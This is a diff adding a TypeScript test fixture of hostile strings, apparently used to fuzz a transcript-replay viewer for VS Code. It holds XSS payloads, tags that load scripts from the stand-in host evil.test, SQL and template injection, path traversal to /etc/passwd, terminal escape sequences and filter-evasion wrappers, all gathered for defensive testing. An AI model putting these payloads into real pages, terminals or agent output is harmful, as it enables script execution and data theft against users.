@@ -1,0 +1,126 @@
+/** Texts that do something where they are taken for more than text: what an agent may write to attack whoever replays it. */
+
+/** Markup, scripts and addresses. `@` is a number of its own in each, so that what ran can be told. */
+const MARKUP: readonly string[] = [
+  '<img src=https://evil.test/@ onerror=alert(@)>',
+  '<script>alert(@)</script>',
+  '<script src=https://evil.test/@.js></script>',
+  '<svg onload=alert(@)><animate onbegin=alert(@) attributeName=x dur=1s>',
+  '<a href="javascript:alert(@)">x</a>',
+  '<iframe srcdoc="<script>parent.alert(@)</script>"></iframe>',
+  '<iframe src=https://evil.test/@></iframe>',
+  '<object data=https://evil.test/@></object><embed src=https://evil.test/@>',
+  '<style>@import "https://evil.test/@.css"; * { display: none !important }</style>',
+  '<link rel=stylesheet href=https://evil.test/@.css>',
+  '<meta http-equiv=refresh content="0;url=https://evil.test/@">',
+  '<base href=https://evil.test/@/>',
+  '<form action=https://evil.test/@><button autofocus onfocus=alert(@)>',
+  '<video poster=https://evil.test/@ onerror=alert(@)><source src=https://evil.test/@></video>',
+  '<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(@)>',
+  '<template><script>alert(@)</script></template>',
+  '<details open ontoggle=alert(@)>',
+  '<input autofocus onfocus=alert(@)>',
+  '<marquee onstart=alert(@)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(@)>">',
+  '"><svg onload=alert(@)>',
+  "' onmouseover=alert(@) x='",
+  '--><script>alert(@)</script><!--',
+  ']]><script>alert(@)</script>',
+  '</script><script>alert(@)</script>',
+  '</textarea><script>alert(@)</script>',
+  '</title><script>alert(@)</script>',
+  '<vscode-button onclick=alert(@)>x</vscode-button>',
+  '<redline-replay></redline-replay><redline-output></redline-output>',
+  '<div id="app"><h2>Step 1</h2></div>',
+  '<p style="position:fixed;inset:0;background:url(https://evil.test/@)">',
+  '<x is="script">alert(@)</x>',
+  '<img srcset="https://evil.test/@ 1x">',
+  '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(@)%22/>">',
+  '&lt;script&gt;alert(@)&lt;/script&gt;',
+  '&#60;script&#62;alert(@)&#60;/script&#62;',
+];
+const TEMPLATES: readonly string[] = [
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text of an attack, not a template
+  '${alert(@)} {{alert(@)}} <%= alert(@) %> #{alert(@)}',
+  'x"; background: url(https://evil.test/@); --z: "',
+  'x; } * { display: none } /*',
+  'expression(alert(@))',
+  'javascript:alert(@)',
+  'data:text/html,<script>alert(@)</script>',
+  'command:workbench.action.terminal.new',
+  '[click](command:redline.deleteRun) ![x](https://evil.test/@)',
+  'vscode://redline.redline/replay?transcript=/etc/passwd',
+  'file:///etc/passwd',
+  '](https://evil.test/@) **bold** `code',
+  '__proto__',
+  'constructor',
+  'toString',
+  'hasOwnProperty',
+  '{"__proto__":{"polluted":@}}',
+  "$& $` $' $$ $1",
+  '%s %d %n %x %@d',
+  '../../../../etc/passwd',
+  "'; DROP TABLE steps; --",
+];
+const TERMINAL: readonly string[] = [
+  '\u001b]8;;https://evil.test/@\u0007click\u001b]8;;\u0007',
+  '\u001b[38;2;0;0;0;url(https://evil.test/@)m text',
+  '\u001b]0;title @\u0007',
+  '\u001b]52;c;cGFzc3dk\u0007',
+  '\u001b[2J\u001b[H\u001b[?1049h gone @',
+  '\u001b[31;41;1;5;7mred',
+  '\u001b[9999999999C\u001b[9999B far',
+  '\u001bP+q544e\u001b\\ \u001b_app\u001b\\ \u001b^pm\u001b\\',
+  '\u009b31m \u009d0;x\u009c',
+  'a\rb\rc\b\b\bd',
+  '\u0000\u0001\u0002\u0007\u0008\u000b\u000c\u000e\u001f\u007f',
+  '\u001b[38;5;999m \u001b[;;;;;m \u001b[',
+];
+const SCRIPTS: readonly string[] = [
+  'rm \u202etxt.exe\u202c',
+  '\u2066isolated\u2069 \u202dforced\u202c',
+  'مستخدم عربي طويل جدا ',
+  'עברית עם English בתוך',
+  '数据数据数据数据数据数据',
+  '👩‍👩‍👧‍👦🏳️‍🌈👍🏽',
+  'z̴̢̛̺a̸̧̛͉l̶̨̛̠g̵̢̛̱o̷̡̧̗',
+  '\ud800 half \udc00',
+  '\ufeff\u200b\u200c\u200d\u2060 nothing to see',
+  '\u2028 line \u2029 paragraph \u0085 next',
+  'ﷺ﷽ 𒐫𒐫𒐫',
+  'i̇İıI ß ẞ ﬁ',
+];
+const SIZES: readonly string[] = [
+  'x'.repeat(20_000),
+  'word '.repeat(4_000),
+  '\n'.repeat(3_000),
+  '\t'.repeat(500),
+  `${'y'.repeat(500)}\n`.repeat(200),
+  `${'['.repeat(3_000)}${']'.repeat(3_000)}`,
+  '漢'.repeat(3_000),
+  '🧨'.repeat(2_000),
+  ' '.repeat(5_000),
+  '',
+];
+/** Ways in which a text is brought past a filter. */
+const DISGUISES: readonly ((text: string) => string)[] = [
+  (text) => text,
+  (text) => text.toUpperCase(),
+  (text) => `\u0000${text}\u0000`,
+  (text) => text.replaceAll('<', '\u003c').replaceAll('"', "'"),
+  (text) => `\u202e${text}`,
+  (text) => `\u001b[31m${text}\u001b[0m`,
+];
+
+/** More than two hundred texts, no two of them alike. */
+export const HOSTILE_TEXTS: readonly string[] = [
+  ...new Set(
+    [
+      ...MARKUP.flatMap((text) => DISGUISES.slice(0, 5).map((disguise) => disguise(text))),
+      ...[...TEMPLATES, ...TERMINAL, ...SCRIPTS].flatMap((text) =>
+        DISGUISES.slice(0, 2).map((disguise) => disguise(text)),
+      ),
+      ...SIZES,
+    ].map((text, index) => text.replaceAll('@', String(index))),
+  ),
+];
